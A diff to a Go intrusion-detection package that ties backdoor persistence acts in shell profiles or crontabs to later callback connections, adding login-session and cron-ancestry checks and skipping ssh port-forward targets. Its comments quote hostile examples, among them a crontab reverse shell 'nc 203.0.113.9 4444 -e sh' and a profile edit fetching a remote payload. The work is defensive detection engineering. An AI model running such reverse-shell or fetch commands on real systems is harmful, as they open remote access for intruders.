@@ -2,6 +2,7 @@ package detect
 
 import (
 	"net/netip"
+	"path"
 	"regexp"
 	"strconv"
 	"strings"
@@ -14,11 +15,17 @@ import (
 // ~/.bashrc`, a crontab line with `nc 203.0.113.9 4444 -e sh`, a profile
 // edited with sed to fetch http://203.0.113.9:8000/b — tells where the
 // backdoor will connect. A later connection to exactly that address and
-// port by a process that is not the planting command itself (a login
-// shell reading the profile, cron running the job) is the callback: a
-// command-and-control act tied to the plant by the address in its own
-// command line (observed), whatever process makes it. PlantedPeer gives
-// the rules that tie; backdoor-callback is the rule.
+// port by a process that is not the planting command itself is tied to
+// the plant by the address in the plant's own command line (observed).
+// Whether it is the backdoor firing is said only on evidence that what the
+// plant changed ran it: a profile runs in login sessions (the process has
+// a login's audit session), a crontab or cron file under cron (cron is an
+// ancestor). Otherwise the intruder used the same address another way
+// (the attacker ran the planted command again through a web shell), and
+// the finding says only that. PlantedPeer gives the rules "fired" or
+// "named"; backdoor-callback is the rule. A port-forward spec's target
+// (ssh -R 18070:127.0.0.1:8070) is where forwarded connections go, not a
+// callback address, and is not taken.
 
 // plantedPeers bounds the addresses remembered from persistence acts.
 const plantedPeers = 256
@@ -33,7 +40,24 @@ type plantKey struct {
 type plant struct {
 	ev      *parser.Event   // the act (kept by its finding)
 	planter *parser.Process // the process that made it, and its descendants, are not the callback
+	via     plantVia        // what runs the plant
 }
+
+// plantVia is what runs a planted command.
+type plantVia uint8
+
+const (
+	viaOther   plantVia = iota
+	viaProfile          // a shell profile: login shells
+	viaCron             // a crontab or cron file: cron
+)
+
+// profilePlant and cronPlant tell what a persistence act changed, from
+// its file or command.
+var (
+	profilePlant = regexp.MustCompile(`(^|/)\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zlogin)\b|/etc/profile|/etc/bash\.bashrc|/etc/zsh/`)
+	cronPlant    = regexp.MustCompile(`/etc/cron|/var/spool/cron|(^|[\s;|&(/])crontab(\s|$)|/etc/anacrontab`)
+)
 
 // plants remembers the named peers, oldest dropped first.
 type plants struct {
@@ -49,7 +73,16 @@ var peerInCommand = regexp.MustCompile(`/dev/(?:tcp|udp)/(\d{1,3}(?:\.\d{1,3}){3
 // namedPeers returns the address/port pairs a command names.
 func namedPeers(cmd string) []plantKey {
 	var out []plantKey
-	for _, m := range peerInCommand.FindAllStringSubmatch(cmd, 8) {
+	for _, idx := range peerInCommand.FindAllStringSubmatchIndex(cmd, 8) {
+		m := make([]string, len(idx)/2)
+		for i := range m {
+			if idx[2*i] >= 0 {
+				m[i] = cmd[idx[2*i]:idx[2*i+1]]
+			}
+		}
+		if forwardTarget(cmd[:idx[0]]) || strings.HasPrefix(cmd[idx[1]:], ":") {
+			continue // a forward's target, or its listen address (ADDR:PORT:…)
+		}
 		ip, port := m[1], m[2]
 		switch {
 		case m[4] != "":
@@ -73,6 +106,21 @@ func namedPeers(cmd string) []plantKey {
 	return out
 }
 
+// forwardTarget reports whether the text before an ADDR:PORT ends a port
+// forward's listen part ("-R 18070:" or "-L 127.0.0.1:18070:"): the
+// address is where forwarded connections go.
+func forwardTarget(before string) bool {
+	i := len(before)
+	if i == 0 || before[i-1] != ':' {
+		return false
+	}
+	j := i - 1
+	for j > 0 && before[j-1] >= '0' && before[j-1] <= '9' {
+		j--
+	}
+	return j < i-1
+}
+
 // notePlant remembers the peers a persistence finding's command names.
 func (s *state) notePlant(f *Finding) {
 	if f.Stage != StagePersistence || f.Event == nil || f.Process == nil {
@@ -94,9 +142,40 @@ func (s *state) notePlant(f *Finding) {
 			delete(s.plants.by, s.plants.order[0])
 			s.plants.order = s.plants.order[1:]
 		}
-		s.plants.by[k] = plant{ev: f.Event, planter: f.Process}
+		s.plants.by[k] = plant{ev: f.Event, planter: f.Process, via: plantedVia(f.Event.Path, strings.Join(args, " "))}
 		s.plants.order = append(s.plants.order, k)
 	}
+}
+
+// plantedVia says what runs a plant: its file, else its command.
+func plantedVia(file, cmd string) plantVia {
+	for _, t := range []string{file, cmd} {
+		switch {
+		case t == "":
+		case profilePlant.MatchString(t):
+			return viaProfile
+		case cronPlant.MatchString(t):
+			return viaCron
+		}
+	}
+	return viaOther
+}
+
+// fired reports whether what the plant changed ran p: a profile in a
+// login session, a cron plant under cron.
+func (pl *plant) fired(p *parser.Process) bool {
+	switch pl.via {
+	case viaProfile:
+		return p != nil && p.AUID.Set && p.AUID.N != parser.Unset
+	case viaCron:
+		for n := 0; p != nil && n < 32; p, n = p.Parent, n+1 {
+			switch path.Base(p.Exe) {
+			case "cron", "crond", "atd", "anacron":
+				return true
+			}
+		}
+	}
+	return false
 }
 
 // plantedFor returns the persistence act that named ev's peer, when ev is
